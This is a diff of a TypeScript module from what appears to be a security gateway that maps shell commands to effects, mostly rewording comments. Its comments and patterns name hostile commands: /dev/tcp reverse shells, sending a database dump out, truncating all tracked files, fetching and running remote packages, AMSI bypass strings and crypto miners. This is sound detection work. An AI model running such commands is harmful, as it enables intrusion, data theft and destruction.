@@ -1,5 +1,5 @@
-// From parsed commands to effects: runs the spec of every program, then its redirections and assignments.
-// Source: ENGINE 3 (stages 7 to 9), 12.
+// From parsed commands to effects: runs the spec of every program, then its redirections and assignments. Source:
+// ENGINE 3 (stages 7 to 9), 12.
 import { one_of } from '#core/compose.ts'
 import { parse_arguments } from '#core/policy/effects/arguments.ts'
 import { type Call, emit, reach, reach_address, said, touch } from '#core/policy/effects/call.ts'
@@ -34,13 +34,13 @@ import { asks_version, is_open_head } from '#core/policy/parse/wrap/own-script.t
 const NO_FLAGS: ReadonlyMap<string, readonly Word[]> = new Map()
 
 /**
- * Of a text over budget, which is a question whatever it does, so many commands from its ends can still make it a refusal: what the
- * parser did with it has taken the time already.
+ * Commands lifted from the ends of a text that is over budget. It is a question anyway; these can still make it a
+ * block. Parsing has used up the time by then.
  */
 const MAX_FIRST_LIFTED = 96
 const MAX_LAST_LIFTED = 64
 
-/** Adds the effects of every command of an analysis to `out`. */
+/** Adds the effects of all commands of an analysis to `out`. */
 export function lift_commands(source: string, analysis: Analysis, frame: Frame, out: Collector): void {
   const { length } = analysis.commands
   for (const [at, command] of analysis.commands.entries()) {
@@ -114,7 +114,9 @@ function lift_command(source: string, command: SimpleCommand, analysis: Analysis
   if (program.hands_on) hands_on_secrets(call)
 }
 
-/** A program named by a path that is not one of the system's folders: a file of the project, or one that somebody put there. */
+/**
+ * Whether a program is called by a path outside the system's folders: a file of the project, or put there by somebody.
+ */
 function is_local_program(command: SimpleCommand): boolean {
   const { text, cert } = command.head
   if (cert !== 'literal' && cert !== 'partial') return false
@@ -130,13 +132,13 @@ const SYSTEM_BIN = one_of(
 const OWN_VARIABLE =
   /^(?:CS|AHP|ASG)_(?:TRAJECTORY_DB_PATH|UDS_PATH|OPERATOR_TOKEN|AUTH_TOKEN|TOKEN|RULES_PATH|ENV_FILE|SCOPE_PROFILE_PATH)$/
 
-/** The command is given one of this gateway's own files or secrets by the variable that names it. */
+/** Whether the command receives one of the gateway's files or secrets through the variable that names it. */
 function names_gateway(command: SimpleCommand): boolean {
   const names_own = (word: Word) => word.vars?.some((name) => OWN_VARIABLE.test(name)) === true
   return command.args.some(names_own) || command.redirects.some((one) => names_own(one.target))
 }
 
-/** `curl.exe` is the program, also where `curl` is an alias of a cmdlet. */
+/** `curl.exe` is the program even where `curl` is an alias of a cmdlet. */
 function is_own_program({ name, head }: SimpleCommand): boolean {
   return /\.exe$/i.test(head.text) && /^(?:curl|wget|cat|cp|mv|rm|ls|sort|tee|diff)$/.test(name)
 }
@@ -145,7 +147,7 @@ function is_windows_shell(via: string): boolean {
   return via.startsWith('cmd') || via.startsWith('powershell') || via.startsWith('pwsh')
 }
 
-/** `./dist/app-*.AppImage`: whatever the build left there under that name. */
+/** A product of the build, by glob: `./dist/app-*.AppImage`. */
 function runs_product(call: Call): boolean {
   const { head, cwd, place } = call.command
   if (head.cert !== 'pattern' || place !== 'local' || cwd === null || !/^(?:\.\/)?[\w.-]+\//.test(head.text))
@@ -156,7 +158,7 @@ function runs_product(call: Call): boolean {
   return true
 }
 
-/** A head that is not known before the command runs. */
+/** The program is only known at run time. */
 function unknown_head(call: Call): void {
   const { head, via, place } = call.command
   if (runs_product(call)) return
@@ -174,7 +176,7 @@ function unknown_head(call: Call): void {
   })
 }
 
-/** Programs of the system, and threads of the kernel, that are never found where anybody may write. */
+/** Names of system programs and kernel threads that never lie where anybody may write. */
 const DAEMONS: ReadonlySet<string> = new Set(
   (
     'kworker kthread kthreadd ksoftirqd kdevtmpfsi systemd systemd-journald systemd-logind systemd-udevd udevd crond ' +
@@ -182,16 +184,19 @@ const DAEMONS: ReadonlySet<string> = new Set(
   ).split(' '),
 )
 
-/** A program called like one of the system in a folder of passing or hidden files, or one that lies in memory only. */
+/** Whether a program has the name of a system program but lies in a temporary or hidden folder, or in memory only. */
 function is_disguised(path: string): boolean {
   if (path.startsWith('/dev/shm/') || path.startsWith('/run/shm/') || path.includes('/.../')) return true
   return DAEMONS.has(path.slice(path.lastIndexOf('/') + 1)) && /^\/(?:var\/)?tmp\/|^[~/].*\/\.\w/.test(path)
 }
 
-/** What PowerShell asks before it runs a script, named or put together of pieces: `'Am' + 'siUtils'`. */
+/**
+ * The interface by which PowerShell has scripts scanned, also spelt in pieces: `'Am' + 'siUtils'`. Touching it means
+ * switching the scan off.
+ */
 const SCAN_OF_SCRIPTS = /a\W{0,5}m\W{0,5}s\W{0,5}i\W{0,5}(?:u\W{0,5}t|i\W{0,5}n\W{0,5}i|scan|context|session)/i
 
-/** What a call is told in words; a whole sentence says what somebody is to write or think about. */
+/** The words of a call; sentences (prompts, messages) are left out. */
 function words_of({ command }: Call): string {
   return command.args
     .filter(({ text }) => !text.includes(' '))
@@ -201,7 +206,7 @@ function words_of({ command }: Call): string {
 
 function unknown_program(call: Call, described: boolean): void {
   const { head, cwd } = call.command
-  // `.GetField(...)`, `[Win32]::GetProcAddress(...)`.
+  // Reflection: `.GetField(...)`, `[Win32]::GetProcAddress(...)`.
   if ((call.name.startsWith('.') || call.name.startsWith('[')) && SCAN_OF_SCRIPTS.test(said(call)))
     emit(call, 'sys.security', { target: 'amsi', fields: { op: 'weaken' } })
   if (call.command.args.some(({ text }) => text.includes('://') && /^stratum\d?(?:\+\w+)?:\/\//i.test(text)))
@@ -209,7 +214,7 @@ function unknown_program(call: Call, described: boolean): void {
   else if (MINER.test(call.name))
     emit(call, 'proc.exec', { target: call.name, fields: { source: 'literal', miner: true } })
   if (/^https?:\/\//i.test(head.text)) {
-    // A package runner was given an address: `npx https://host/x.tgz`.
+    // A package runner that is given an address: `npx https://host/x.tgz`.
     reach(call, 'net.fetch', head, { to_file: true })
     emit(call, 'proc.exec', {
       target: head.text,
@@ -243,11 +248,11 @@ function unknown_program(call: Call, described: boolean): void {
   guess_effects(call)
 }
 
-/** Programs that dig for coins, by name. */
+/** Crypto miners by name. */
 const MINER =
   /^(?:xmrig|xmr-stak|minerd|cpuminer|ethminer|cgminer|bfgminer|nbminer|phoenixminer|ccminer|lolminer|t-rex|nanominer)(?:-\w+)?$/
 
-/** A path, or a Windows program in the current folder. */
+/** Whether a word is a path, or a Windows program in the current folder. */
 function names_program_file(text: string): boolean {
   return text.includes('/') || text.includes('\\') || /\.(?:exe|bat|cmd|com|msi|ps1|vbs|scr)$/i.test(text)
 }
@@ -272,9 +277,9 @@ function redirected(call: Call, redirect: Redirect): void {
     return
   }
   if (op === '<>') touch(call, 'fs.read', target)
-  // A folder cannot be opened for writing: `docs/<name>/` is a place left open in a text, and not the root.
+  // A folder cannot be opened for writing: `docs/<name>/` is a placeholder in a text, not the root.
   else if (target.cert === 'literal' && target.text.endsWith('/')) return
-  // `for f in $(git ls-files); do : > "$f"; done`: the list says what is emptied.
+  // The list says which files are emptied: `for f in $(git ls-files); do : > "$f"; done`.
   if (op === '>' && target.cert === 'dynamic' && prints_nothing(call.command))
     for (const word of looped_targets(call, target)) touch(call, 'fs.write', word, { mode: 'truncate', empty: true })
   const draft = touch(call, 'fs.write', target, {
@@ -302,7 +307,10 @@ const SHELLS: ReadonlySet<string> = new Set([
   'ruby',
 ])
 
-/** `/dev/tcp/host/port`: a shell on it is a remote shell; writing to it sends; opening it to look whether a port answers is routine. */
+/**
+ * `/dev/tcp/host/port`: with a shell it is a remote shell, written to it sends; merely opening it tests whether a port
+ * answers.
+ */
 function raw_socket(
   call: Call,
   op: Redirect['op'],
@@ -311,7 +319,7 @@ function raw_socket(
 ): void {
   const near = address.kind === 'loopback'
   const program = shell_of(call)
-  // `sh </dev/tcp/host/80`: without a script it runs what comes in.
+  // `sh </dev/tcp/host/80`: a shell without a script runs what it receives.
   const shell =
     program !== undefined &&
     (op !== '<' ||
@@ -333,7 +341,7 @@ function raw_socket(
   )
 }
 
-/** `cat dump.sql > /dev/tcp/host/80`: what a file holds, or what comes through the pipe. */
+/** Whether what is sent is a file or piped data: `cat dump.sql > /dev/tcp/host/80`. */
 function carries_file({ name, args, stdin, redirects }: SimpleCommand): boolean {
   if (stdin.length > 0 || redirects.some((one) => one.op === '<' && one.target.text !== '/dev/null')) return true
   return (
@@ -342,7 +350,7 @@ function carries_file({ name, args, stdin, redirects }: SimpleCommand): boolean 
   )
 }
 
-/** The shell that gets the redirection: the command itself, or what it wraps (`nohup bash -i >& ...`). */
+/** The shell that gets the redirection: the command itself, or the one it wraps (`nohup bash -i >& ...`). */
 function shell_of({ command, commands }: Call): SimpleCommand | undefined {
   if (SHELLS.has(command.name)) return command
   if (command.tail === undefined) return undefined
@@ -356,7 +364,7 @@ function shell_of({ command, commands }: Call): SimpleCommand | undefined {
   )
 }
 
-/** A call for findings that concern the whole action. */
+/** A call that stands for the whole action. */
 function whole_call(source: string, frame: Frame, out: Collector): Call {
   const head: Word = { text: '', cert: 'literal', quoted: false, taint: [], span: [0, source.length] }
   const command = stand_in_command(head, frame.cwd)
